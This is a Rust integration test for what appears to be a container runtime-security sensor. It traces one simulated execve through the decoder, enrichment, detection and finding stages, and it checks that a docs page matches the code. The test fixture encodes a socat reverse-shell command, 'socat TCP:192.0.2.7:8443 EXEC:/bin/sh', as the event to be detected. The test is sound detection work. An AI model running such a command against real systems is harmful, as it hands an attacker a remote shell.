//! Walks the stations of docs/life-of-an-event.md with one socat and its shell.

use decoder::{Decoded, decode};
use detection::{Engine, Outcome, Settings};
use enrichment::State;
use enrichment::channel::{Flow, Holder, follow, sockets};
use event::{Event, Exec, Object};
use findings::{Circumstances, Coverage, Place, compose};
use probe_abi::{
    DescriptorKind, RecordAncestor, RecordDescriptor, RecordExec, RecordHeader, RecordKind, RecordProcess,
};
use std::sync::Arc;

const SHELL: u32 = 11;
const SOCAT: u32 = 10;

fn record(
    pid: u32,
    path: &[u8],
    arguments: &[u8],
    descriptors: Vec<RecordDescriptor>,
) -> RecordExec<'static> {
    RecordExec {
        executable_inode: u64::from(pid),
        descriptors,
        path: path.to_vec().into(),
        cgroup: [b"c".repeat(64).as_slice(), b"\0pod11111111-2222-3333-4444-555555555555\0kubepods\0"]
            .concat()
            .into(),
        arguments: arguments.to_vec().into(),
        ..RecordExec::of(
            RecordHeader {
                length: 0,
                kind: RecordKind::Exec,
                time_ns: u64::from(pid) * 1_000,
                cgroup: 42,
                pid,
                cpu: 0,
            },
            RecordProcess { pid, start_ns: u64::from(pid) * 1_000 },
        )
    }
}

fn pair(number: u32, inode: u64, peer: u64) -> RecordDescriptor {
    RecordDescriptor {
        number,
        kind: DescriptorKind::Unix,
        access: 3,
        inode,
        peer,
        ..RecordDescriptor::default()
    }
}

fn socket() -> RecordDescriptor {
    RecordDescriptor::connection(5, 77, 40_001, ([192, 0, 2, 7], 8_443))
}

fn decoded(record: &RecordExec<'_>) -> Arc<Exec> {
    // stations 1 to 3: what the probe writes, the reader hands over and the decoder reads
    match decode(&record.write()) {
        Ok(Decoded::Event(Event::Exec(exec))) => exec,
        other => panic!("not an exec: {other:?}"),
    }
}

#[test]
fn one_execve_through_every_station() {
    let socat =
        decoded(&record(SOCAT, b"socat\0bin\0usr\0", b"socat\0TCP:192.0.2.7:8443\0EXEC:/bin/sh\0", vec![]));
    assert_eq!(socat.executable.path.to_string(), "/usr/bin/socat");
    let mut shell = record(SHELL, b"dash\0bin\0usr\0", b"/bin/sh\0", vec![pair(0, 61, 60), pair(1, 61, 60)]);
    shell.ancestors = vec![RecordAncestor { pid: SOCAT, start_ns: 10_000, ..RecordAncestor::default() }];
    shell.parent_descriptors = vec![socket(), pair(6, 60, 61)];
    let shell = decoded(&shell);
    assert_eq!(shell.arguments.values.len(), 1);

    // 4: remember
    let mut state = State::default();
    state.tree.exec(&socat);
    state.tree.exec(&shell);
    let parent = state.tree.get(shell.parent().unwrap()).unwrap();
    assert_eq!(parent.image.as_ref().unwrap().exec.executable.path.to_string(), "/usr/bin/socat");
    assert_eq!(parent.descriptors.len(), 2, "what the shell's record said of its parent");

    // 6: follow (5 uses it)
    let holder = Holder { process: socat.process, descriptors: &parent.descriptors, opaque: false };
    let route = follow(
        shell.process,
        shell.descriptor(0).unwrap(),
        Flow::In,
        |_, _| [holder],
        |holder| sockets(holder, |_| true).first().copied(),
    )
    .unwrap();
    assert_eq!((route.endpoint.remote.port, route.hops.len()), (8_443, 1));

    // 5: enrich
    let enriched = state.enrich(&shell, 1);
    assert!(enriched.actor.takes_commands());
    assert_eq!(enriched.container.as_ref().unwrap().id.as_str(), "c".repeat(64));
    assert_eq!(enriched.input, Some(route));
    assert!(!enriched.needs.is_empty(), "nobody has said yet what the files are");

    // 7 and 8: detect and group
    let mut engine = Engine::new(detectors::catalogue(), Settings::default());
    let enriched = Arc::new(enriched);
    let Outcome::Detected(evidence) = engine.evaluate(&enriched) else { panic!("not detected") };
    assert_eq!(evidence.metadata.module, "SOCAT_REVERSE_SHELL_DETECTED");
    assert!(matches!(engine.evaluate(&enriched), Outcome::Known(again) if again.session == evidence.session));

    // 9: compose
    let place = Place::local("node-1", "machine-1", "6.1.0");
    let coverage = Coverage::default();
    let id = "0123456789abcdef0123456789abcdef";
    let at = Circumstances {
        place: &place,
        id,
        event_time_ns: 1_000,
        born_ns: 1_000,
        boot_ns: 0,
        called_ns: None,
        boot_id: "boot-1",
        ended: None,
        coverage: &coverage,
        items: &[],
        missing: &[],
    };
    let composed = compose(&evidence, &at);
    let finding = &composed.finding;
    assert_eq!(finding.category, "Execution: Socat Reverse Shell Detected");
    assert_eq!(finding.processes[0].binary.path, "/usr/bin/dash");
    assert_eq!(finding.processes[1].args[2], "EXEC:/bin/sh");
    assert_eq!(
        (finding.connections[0].destination_ip.as_str(), finding.connections[0].destination_port),
        ("192.0.2.7", 8_443)
    );
    assert_eq!(finding.source_properties["VM_Instance_Name"], "node-1");
    assert_eq!(composed.resource.gcp_metadata.project_display_name, "local");
    finding.name.parse::<finding::FindingName>().unwrap();
    assert!(matches!(shell.descriptor(0).unwrap().object, Object::Unix { .. }));
}

/// The page and the code name the same places.
#[test]
fn every_station_of_the_page_exists() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
    let page = std::fs::read_to_string(format!("{root}/docs/life-of-an-event.md")).unwrap();
    let rows: Vec<Vec<&str>> = page
        .lines()
        .filter(|line| line.starts_with("| ") && line.contains("`crates/"))
        .map(|line| line.split('|').map(str::trim).collect())
        .collect();
    assert_eq!(rows.len(), 12);
    for row in rows {
        let (file, function) = (row[3].trim_matches('`'), row[4].trim_matches('`'));
        let text =
            std::fs::read_to_string(format!("{root}/{file}")).unwrap_or_else(|e| panic!("{file}: {e}"));
        let defined = text.contains(&format!("fn {function}")) || text.contains(&format!("void {function}("));
        assert!(defined, "{file} does not define {function}");
    }
}
